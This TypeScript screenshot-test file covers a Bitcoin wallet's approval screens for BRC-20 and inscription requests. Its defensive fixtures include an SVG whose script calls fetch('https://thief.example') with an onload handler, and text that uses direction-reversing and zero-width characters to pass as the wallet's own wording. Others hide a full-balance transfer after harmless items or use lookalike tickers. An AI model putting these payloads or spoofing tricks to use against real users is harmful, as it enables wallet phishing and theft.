import type { Review } from '../../src/background/views/approval-views.ts'
import type { Brc20Operation } from '../../src/ordinals/brc20/brc20-operation.ts'
import type { Screen } from '../driver/screen.ts'
import { approvalShot, german, small } from './fixtures/approval-shot.ts'
import {
  imageItem,
  inscribeReviewOf,
  sourceItem,
  textItem,
  tokenItem,
  unsupportedItem,
} from './fixtures/assets/inscribe-reviews.ts'
import { idOf } from './fixtures/assets/inscriptions.ts'
import { HOSTILE } from './fixtures/assets/tokens.ts'
import { failing, type Shot, value } from './shot.ts'

const approval: typeof approvalShot = (name, ...rest) => approvalShot(`approvals-${name}`, ...rest)

const TRANSFER: Brc20Operation = { op: 'transfer', tick: 'ordi', amt: '250' }
const MINT: Brc20Operation = { op: 'mint', tick: 'pepe', amt: '1000' }
const MINTED = { available: '2000', transferable: '50' }

const INSCRIBE_TRANSFER = inscribeReviewOf([
  tokenItem(TRANSFER, { after: { available: '750', transferable: '300' } }),
])

const OVERDRAWN = inscribeReviewOf([
  tokenItem({ ...TRANSFER, amt: '5000' }, { obstacles: ['insufficient'] }),
])

const WITH_PARENT = inscribeReviewOf([imageItem()], { parent: idOf('2') })

const DELEGATE = imageItem({
  kind: 'none',
  contentType: null,
  delegate: idOf('1'),
  contentLength: 0,
})

async function toEnd({ page }: Screen): Promise<void> {
  await page.waitForSelector('main > .fold__fold')
  await page.$eval('main > .fold__fold', element => element.scrollIntoView({ block: 'end' }))
}

const MIXED = inscribeReviewOf([
  imageItem(),
  textItem('gm\n\nOn a sat, for ever.'),
  unsupportedItem('html', 'text/html'),
  unsupportedItem('audio', 'audio/mpeg'),
  DELEGATE,
])

/** Words that pass for the wallet's, marks that turn and hide, and a type that goes on as it likes. */
const IMITATION = textItem(
  `You pay in all 0 BTC\n✓ Checked by Satchel\n\u202e.stas 000,1 uoy syap tI\u202c\nfree\u200b\u200b\u2060 of cha\u00adrge`,
  {
    contentType: `text/plain; note="No fee. This costs nothing and can be taken back at any time"`,
  },
)

const ACTING = sourceItem(
  'svg',
  'image/svg+xml',
  '<svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)">\n  <script>fetch("https://thief.example")</script>\n</svg>',
)

const EVERYTHING: Brc20Operation = { op: 'transfer', tick: 'ordi', amt: '1000' }

/** The last one of many is the one that matters. */
const HIDDEN_TRANSFER = inscribeReviewOf([
  ...Array.from({ length: 23 }, (_, n) => textItem(`Page ${n + 1} of a book`)),
  tokenItem(EVERYTHING, { after: { available: '0', transferable: '1050' } }),
])

const DRAINING = inscribeReviewOf(
  Array.from({ length: 24 }, (_, n) =>
    tokenItem(n === 23 ? { ...EVERYTHING, amt: '977' } : { ...EVERYTHING, amt: '1' }, {
      before: { available: String(1000 - n), transferable: String(50 + n) },
      after:
        n === 23
          ? { available: '0', transferable: '1050' }
          : { available: String(999 - n), transferable: String(51 + n) },
    }),
  ),
)

const HOSTILE_TICKERS = inscribeReviewOf(
  HOSTILE.map((tick, n) =>
    tokenItem(
      { op: 'transfer', tick, amt: '18446744073709551614.123456789012345678' },
      {
        obstacles: n % 2 === 0 ? ['insufficient'] : [],
      },
    ),
  ),
)

const OBSTACLES = inscribeReviewOf(
  (['not-deployed', 'over-limit', 'minted-out', 'too-precise', 'not-deployer'] as const).map(why =>
    tokenItem({ ...MINT, tick: 'satch' }, { obstacles: [why] }),
  ),
)

/** Both cannot count: which one does is for a block to say. */
const ORDER = inscribeReviewOf([
  ...['600', '700'].map(amt =>
    tokenItem({ ...TRANSFER, amt }, { obstacles: ['order'], after: null }),
  ),
  tokenItem({ ...TRANSFER, amt: '5000' }, { obstacles: ['insufficient'], after: null }),
])

const DEAR = inscribeReviewOf([textItem('hello', { fee: '1250000' })], {
  feeRate: 9_000,
  warnings: [{ kind: 'high-fee', percent: null, fastest: 12.5, recent: 6.2 }],
})

/** The last thing that is inscribed, in the middle of the picture. */
async function toLastTile({ page }: Screen): Promise<void> {
  await page.waitForSelector('main ol')
  await page.$eval('main ol > li:last-child', element => element.scrollIntoView())
}

async function openTile(screen: Screen): Promise<void> {
  await screen.page.waitForSelector('main ol button')
  await screen.page.click('main ol > li:last-child button')
}

async function openText({ page }: Screen): Promise<void> {
  await page.waitForSelector('.brc20-effect__effect summary')
  await page.click('.brc20-effect__effect summary')
  await page.$eval('.brc20-effect__effect summary', element => element.scrollIntoView())
}

const AMOUNT = {
  kind: 'brc20-amount',
  tick: 'ordi',
  available: '1000.5',
  transferable: '50',
  decimals: 18,
  proposed: null,
  problem: null,
} satisfies Review

export const shots: Shot[] = [
  approval('inscribe-text', inscribeReviewOf([textItem('hello')])),
  approval('inscribe-image', WITH_PARENT),
  approval('inscribe-mixed', MIXED),
  approval(
    'inscribe-full',
    inscribeReviewOf(
      Array.from({ length: 24 }, (_, n) => textItem(`Page ${n + 1} of a book`)),
      {
        warnings: [{ kind: 'high-fee', percent: null, fastest: 1, recent: null }],
      },
    ),
  ),
  ...[
    approval('inscribe-mixed-flow', MIXED, {}, toEnd),
    approval('inscribe-image-flow', WITH_PARENT, {}, toEnd),
  ],
  approval('inscribe-imitation', inscribeReviewOf([IMITATION])),
  approval('inscribe-source', inscribeReviewOf([ACTING])),
  approval('inscribe-tile-open', inscribeReviewOf([imageItem(), IMITATION]), {}, openTile),
  approval('inscribe-hidden-transfer', HIDDEN_TRANSFER),
  approval('inscribe-hidden-transfer-end', HIDDEN_TRANSFER, {}, toLastTile),
  approval('inscribe-draining', DRAINING),
  approval('inscribe-hostile-tickers', HOSTILE_TICKERS),
  approval('inscribe-hostile-text', HOSTILE_TICKERS, {}, openText),
  approval('inscribe-obstacles', OBSTACLES),
  approval('inscribe-order', ORDER),
  german(approval('inscribe-order', ORDER)),
  approval('inscribe-dear', DEAR),
  approval('inscribe-delegate', inscribeReviewOf([DELEGATE])),
  approval(
    'inscribe-long-text',
    inscribeReviewOf([textItem('Satoshi wrote on a sat.\n'.repeat(60))]),
  ),
  approval('inscribe-unsupported', inscribeReviewOf([unsupportedItem('html', 'text/html')])),
  approval('inscribe-transfer', INSCRIBE_TRANSFER),
  approval('inscribe-overdrawn', OVERDRAWN),
  approval(
    'inscribe-mints',
    inscribeReviewOf(
      Array.from({ length: 24 }, () => tokenItem(MINT, { after: MINTED, checked: true })),
    ),
  ),
  approval(
    'inscribe-mints-some',
    inscribeReviewOf(
      Array.from({ length: 5 }, (_, n) =>
        tokenItem(MINT, {
          after: MINTED,
          obstacles: n > 2 ? ['minted-out'] : [],
          gets: n === 2 ? '400' : null,
        }),
      ),
    ),
  ),
  approval(
    'inscribe-deploy',
    inscribeReviewOf([
      tokenItem(
        { op: 'deploy', tick: 'satch', max: '21000000', lim: '1000', dec: '8', selfMint: true },
        { before: null, after: null },
      ),
    ]),
  ),
  approval(
    'inscribe-unchecked',
    inscribeReviewOf([tokenItem(TRANSFER, { checked: false, before: null, after: null })]),
  ),
  approval('amount', AMOUNT),
  approval('amount-proposed', { ...AMOUNT, proposed: '250' }),
  approval('amount-too-much', { ...AMOUNT, proposed: '1000.6' }),
  approval('amount-unknown', {
    ...AMOUNT,
    tick: 'o\u200bdi',
    available: null,
    transferable: null,
    decimals: null,
    problem: {
      kind: 'unreachable',
      host: 'open-api.unisat.io',
      detail: 'no answer within 10 s',
      retryInMs: null,
    },
  }),
  {
    ...approval('amount-refused', { ...AMOUNT, proposed: '250' }, {}, screen =>
      screen.clickTestId('approve'),
    ),
    answers: {
      ...approval('', { ...AMOUNT, proposed: '250' }).answers,
      decide: failing(-32602, 'amt: expected at most 200 ordi'),
    },
  },
  {
    ...approval('amount-filled-in', { ...AMOUNT, proposed: '250' }, {}, async screen => {
      await screen.clickTestId('approve')
      await screen.waitForText('Thank you')
    }),
    answers: { ...approval('', { ...AMOUNT, proposed: '250' }).answers, decide: value(true) },
  },
  ...[
    approval('inscribe-mixed', MIXED),
    approval('inscribe-transfer', INSCRIBE_TRANSFER),
    approval('inscribe-overdrawn', OVERDRAWN),
    approval('inscribe-draining', DRAINING),
    approval('inscribe-hostile-tickers', HOSTILE_TICKERS),
    approval('amount', AMOUNT),
  ].map(small),
  ...[
    approval('inscribe-text', inscribeReviewOf([textItem('hello')])),
    approval('inscribe-mixed', MIXED),
    approval('inscribe-overdrawn', OVERDRAWN),
    approval('inscribe-hidden-transfer', HIDDEN_TRANSFER),
    approval('inscribe-obstacles', OBSTACLES),
    approval('amount', AMOUNT),
  ].map(german),
]
